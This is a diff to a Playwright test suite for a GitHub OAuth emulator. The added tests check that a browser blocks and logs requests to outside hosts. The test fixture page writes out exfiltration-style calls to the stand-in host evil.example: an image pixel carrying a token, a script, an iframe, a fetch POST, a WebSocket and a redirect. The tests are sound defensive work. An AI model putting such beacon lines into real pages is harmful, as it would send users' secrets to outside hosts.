@@ -5,18 +5,23 @@ import { describe, onTestFinished, test } from "vitest";
 import { hasChromium } from "../chromium.test-support.ts";
 import { openStrandedContext } from "./chromium.test-support.ts";
 import { createGitHubEmulator } from "./emulator.ts";
+import { startNetwork } from "./network.ts";
 import { routeGitHub } from "./route-github.ts";
 
 type Answers = Record<string, RequestListener>;
 
 /** Serves an application that signs in at GitHub, and routes GitHub for a browser. */
-async function open({ gitHubUrl = "https://github.com", scripts = true } = {}) {
+async function open({
+  gitHubUrl = "https://github.com",
+  scripts = true,
+  allow,
+}: { gitHubUrl?: string; scripts?: boolean; allow?: (url: URL) => boolean } = {}) {
   const answers: Answers = {};
   const origin = await serve(answers);
   const github = createGitHubEmulator({ gitHubUrl, callbackUrl: `${origin}/callback` });
   const { context, failed } = await openStrandedContext({ javaScriptEnabled: scripts });
   const page = await context.newPage();
-  await routeGitHub(github, page);
+  await routeGitHub(github, page, { allow });
   const query = new URLSearchParams({ client_id: github.app.clientId, state: "xyz" });
   const authorizeUrl = `${gitHubUrl}/login/oauth/authorize?${query}`;
   Object.assign(answers, {
@@ -147,6 +152,62 @@ describe.runIf(hasChromium)("a browser that Playwright drives", () => {
     expect(failed).toEqual([blocked]);
     await page.goto(`${origin}/elsewhere`).catch(() => "the browser's own page");
     await expect.poll(() => failed).toEqual([blocked, blocked]);
+  });
+
+  test("is refused whatever a page asks for on another machine, and the network records it", async ({
+    expect,
+  }) => {
+    using network = startNetwork({ handlers: [] });
+    const { page, answers, origin, failed } = await open();
+    answers["GET /page"] = show(`<img src="https://evil.example/pixel?token=secret">
+      <script src="https://evil.example/script.js"></script>
+      <iframe src="https://evil.example/frame"></iframe>
+      <script>
+        fetch("https://evil.example/fetch", { method: "POST", mode: "no-cors" }).catch(() => {});
+        fetch("https://api.github.com/nowhere").catch(() => {});
+        new WebSocket("wss://evil.example/socket").onclose = () => (document.title = "closed");
+      </script>`);
+    await page.goto(`${origin}/page`);
+    await expect.poll(() => page.title()).toBe("closed");
+    await page.goto("https://evil.example/document").catch(() => "the browser's own page");
+    await page.goto("https://github.com/nowhere").catch(() => "the browser's own page");
+    await expect.poll(() => failed.length).toBe(7);
+    expect(failed.every((line) => line.startsWith("net::ERR_BLOCKED_BY_CLIENT"))).toBe(true);
+    const recorded = network.unexpected.map(({ method, url }) => `${method} ${url}`);
+    expect(recorded.toSorted()).toEqual([
+      "GET https://api.github.com/nowhere",
+      "GET https://evil.example/document",
+      "GET https://evil.example/frame",
+      "GET https://evil.example/pixel?token=…",
+      "GET https://evil.example/script.js",
+      "GET https://github.com/nowhere",
+      "POST https://evil.example/fetch",
+      "WebSocket wss://evil.example/socket",
+    ]);
+  });
+
+  test("tells of a redirect that leads what a page loads to another machine", async ({
+    expect,
+  }) => {
+    using network = startNetwork({ handlers: [] });
+    const { page, answers, origin } = await open();
+    answers["GET /page"] = show(`<img src="/away">`);
+    answers["GET /away"] = redirect(302, "https://evil.example/pixel");
+    await page.goto(`${origin}/page`);
+    await expect
+      .poll(() => network.unexpected)
+      .toEqual([{ method: "GET", url: "https://evil.example/pixel" }]);
+  });
+
+  test("reaches what the caller allows", async ({ expect }) => {
+    using network = startNetwork({ handlers: [] });
+    const { page, context, answers, origin, failed } = await open({
+      allow: ({ hostname }) => hostname === "cdn.example",
+    });
+    await context.route("https://cdn.example/*", (route) => route.fulfill({ body: "" }));
+    answers["GET /page"] = show(`<script src="https://cdn.example/script.js"></script>`);
+    await page.goto(`${origin}/page`);
+    expect([failed, network.unexpected]).toEqual([[], []]);
   });
 
   test("shows what goes wrong at GitHub, and where nobody listens", async ({ expect }) => {
